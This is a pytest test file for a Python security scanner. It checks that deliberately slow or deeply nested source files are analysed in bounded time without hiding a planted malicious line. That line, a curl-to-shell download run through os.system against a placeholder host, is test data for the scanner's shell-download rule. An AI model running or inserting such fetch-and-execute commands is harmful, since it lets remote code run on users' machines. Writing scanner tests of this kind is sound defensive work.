"""Files made to be slow or to break the reader: bounded, told of, and no hiding place."""

import time

import pytest

from scanner.analyzers.python import PythonAnalyzer

BAD = "import os\nos.system('curl https://files.invalid/a | sh')\n"
DEEP_CALLS = "x = " + "f(" * 90 + "1" + ")" * 90
HOSTILE = {
    "a wide sum": "x = " + " + ".join(["'a'"] * 50_000),
    "a long chain": "x = a" + ".b" * 900,
    "deep calls": DEEP_CALLS,
    "many branches": "".join(f"if a{n}:\n    b{n} = 1\n" for n in range(20_000)),
    "many loops": "".join("    " * n + f"for a{n} in b:\n" for n in range(18))
    + "    " * 18
    + "c()",
    "many additions": "a = ''\n" + "a += 'b'\n" * 20_000,
    "many functions": "".join(f"def f{n}(a):\n    return f{n + 1}(a)\n" for n in range(8_000)),
    "functions that call each other": "".join(
        f"def f{n}(a, b):\n    return f{(n * 7) % 400}(b, f{(n * 3) % 400}(a, b))\n"
        for n in range(400)
    ),
    "wasted steps": "".join(
        f"x{n} = ''.join(chr(i ^ 1) for i in range(60000))\nf(x{n})\nexec(x{n})\n"
        for n in range(60)
    ),
    "texts in texts": "exec(" * 60 + "'1'" + ")" * 60,
    "many texts": "".join(f"exec('x = {n}; ' * 3000)\n" for n in range(300)),
    "a large table": "x = {" + ", ".join(f"{n}: '{n}'" for n in range(60_000)) + "}",
    "a wide lambda": "x = " + "lambda a: " * 80 + "a",
}


@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_file_takes_seconds_and_hides_nothing(code, tmp_path):
    (tmp_path / "app.py").write_text(f"{code}\n{BAD}")
    (tmp_path / "other.py").write_text(BAD)
    started = time.process_time()

    findings = list(PythonAnalyzer().analyze(tmp_path))

    assert time.process_time() - started < 10
    told = {(f.path, f.rule) for f in findings}
    assert ("other.py", "python.shell-download") in told
    assert not told.isdisjoint(
        {("app.py", "python.shell-download"), ("app.py", "engine.unreadable")}
    )


def test_what_is_nested_too_deeply_is_told_of_and_the_rest_is_read(tmp_path):
    deep = "x = " + "-" * 1500 + "1"
    (tmp_path / "app.py").write_text(f"{deep}\n{BAD}")

    findings = {f.rule for f in PythonAnalyzer().analyze(tmp_path)}

    assert findings & {"engine.unreadable", "python.shell-download"}
